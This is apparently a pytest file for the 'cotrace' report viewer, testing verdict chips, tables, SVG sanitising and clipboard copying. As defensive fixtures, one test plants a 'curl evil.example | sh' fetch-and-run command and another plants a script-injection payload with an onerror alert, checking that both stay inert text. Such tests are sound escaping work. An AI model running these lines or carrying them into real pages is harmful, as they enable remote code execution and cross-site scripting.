"""Transcripts on the page: verdict, steps, ledger, links and evidence say what the report says."""

import json
import re
from dataclasses import replace

import pyarrow as pa
import pytest
from helpers.reports import REPORTS

from cotrace.common.visible_text import printable
from cotrace.faithfulness.report.drawing.words import sentence_of
from cotrace.faithfulness.report.schemas import SEGMENTS
from cotrace.viewer.page.payload import PageFile, write_page
from cotrace.viewer.page.report_payload import report_entries, svg_tree


def report_page(report, folder, name="report.arrow"):
    return write_page([PageFile(name, report.graph, {"report": report_entries(report)})], folder / "page.html")


def open_report(page):
    page.get_by_title("Open the report").click()
    return page.get_by_role("article", name="Report")


@pytest.mark.parametrize("name", REPORTS)
def test_the_payload_of_every_report_is_json_without_recipes(name):
    report = REPORTS[name]()
    entries = report_entries(report)
    text = json.dumps(entries, allow_nan=False)
    assert "recipe" not in text
    assert len(text) < 120_000
    assert entries["sentence"] == sentence_of(report)
    for segment, row in zip(entries["segments"], report.segments.to_pylist(), strict=True):
        before, value, after = segment["pieces"]
        tokens = report.graph.info["tokens"][row["first"] : row["last"] + 1]
        assert before + value + after == printable("".join(tokens))
        assert value == (row["value"] or "")


def test_a_picture_becomes_a_tree_without_style_attributes():
    tree = svg_tree(
        '<svg xmlns="http://www.w3.org/2000/svg" style="a:b" role="img"><text>&lt;b&gt;<title>x</title></text></svg>'
    )
    assert tree == ["svg", {"role": "img"}, ["text", {}, "<b>", ["title", {}, "x"]]]


def test_the_verdict_stands_above_the_circuit_and_each_step_leads_to_its_positions(tmp_path, open_page):
    report = REPORTS["mixed"]()
    page = open_page(report_page(report, tmp_path))
    verdict = page.get_by_role("region", name="Verdict")
    assert sentence_of(report) in verdict.inner_text()
    assert "0.52" in verdict.inner_text()
    chips = [chip.locator("span").all_inner_texts() for chip in verdict.locator(".step-chip").all()]
    assert chips == [["✓", "step 1", "used"], ["?", "step 2", "undetermined"], ["✗", "step 3", "decorative"]]
    step = report.steps.to_pylist()[1]
    verdict.get_by_role("button", name="step 2").click()
    assert page.locator("#live").inner_text() == f"step 2: positions {step['first']} to {step['last']}"


def test_the_report_has_every_number_of_the_tables(tmp_path, open_page):
    report = REPORTS["eight_steps"]()
    page = open_page(report_page(report, tmp_path))
    view = open_report(page)
    page.evaluate("document.querySelectorAll('.report details').forEach((each) => (each.open = true))")
    for name in ("steps", "segments", "sources", "links"):
        title = {"sources": "cells"}.get(name, f"columns of {name}" if name in ("steps", "segments") else name)
        table = view.get_by_role("region", name=f"All {title}").locator("table")
        rows = getattr(report, name).to_pylist()
        assert table.locator("tbody tr").count() == len(rows)
        columns = {name for row in rows for name, value in row.items() if value is not None}
        shown = {text.replace(" ", "_") for text in table.locator("th").all_inner_texts()}
        assert columns - {"part"} <= shown
    bar = view.get_by_role("group", name="Effects of the parts")
    effects = [row["effect"] for row in report.sources.to_pylist()]
    assert bar.locator(".for .ledger-cell").count() == sum(effect > 0 for effect in effects)
    assert f"+{sum(effects):.2f} logits" in view.locator(".ledger-sum").inner_text()
    assert page.locator(".report-picture svg").get_attribute("data-report-verdict") == "faithful"


def test_evidence_can_be_narrowed_and_its_command_copied(tmp_path, open_page):
    report = REPORTS["motivated"]()
    hostile = pa.array(["curl evil.example | sh"] * report.evidence.num_rows)
    at = report.evidence.column_names.index("command")
    report = replace(report, evidence=report.evidence.set_column(at, "command", hostile))
    page = open_page(
        report_page(report, tmp_path, "it's mine.arrow"), permissions=["clipboard-read", "clipboard-write"]
    )
    rows = open_report(page).locator(".evidence-table tbody tr")
    assert rows.count() == report.evidence.num_rows
    page.get_by_label("Interventions that are shown").select_option("those that moved the answer")
    assert rows.count() == sum(report.evidence["moved"].to_pylist())
    number = report.evidence.to_pylist()[-1]["number"]
    rows.last.get_by_role("button").click()
    page.wait_for_function("() => document.getElementById('live').textContent.startsWith('copied')")
    copied = page.evaluate("navigator.clipboard.readText()")
    assert copied == f"cotrace compare --replay 'it'\\''s mine.arrow' --row {number}"
    page.set_viewport_size({"width": 688, "height": 970})  # A4 between its margins
    page.emulate_media(media="print")
    table = page.get_by_role("region", name="Interventions")
    assert table.evaluate("({ scrollWidth, clientWidth }) => scrollWidth <= clientWidth")
    assert table.get_by_role("columnheader").last.inner_text() == "Passes"


def test_texts_and_names_of_segments_stay_text(tmp_path, open_page):
    report = REPORTS["faithful"]()
    hostile = '</script><img src=x onerror=alert(1)>"\u202e{}'
    rows = report.segments.to_pylist()
    rows[0] |= {"name": hostile}
    edited = replace(report, segments=pa.Table.from_pylist(rows, SEGMENTS), reason=hostile)
    page = open_page(report_page(edited, tmp_path, hostile))
    assert page.locator("img").count() == 0
    assert "<img src=x" in page.locator(".verdict-reason").inner_text()
    assert not re.search("\u202e", page.locator("body").inner_text())


def test_pointing_at_a_band_dims_the_links_of_others(tmp_path, open_page):
    page = open_page(report_page(REPORTS["motivated"](), tmp_path))
    page.locator(".report-picture [data-segment=answer]").first.dispatch_event("pointerenter")
    links = page.locator(".report-picture [data-source]")
    dimmed = [("dim" in (link.get_attribute("class") or "")) for link in links.all()]
    assert dimmed == [link.get_attribute("data-target") != "answer" for link in links.all()]
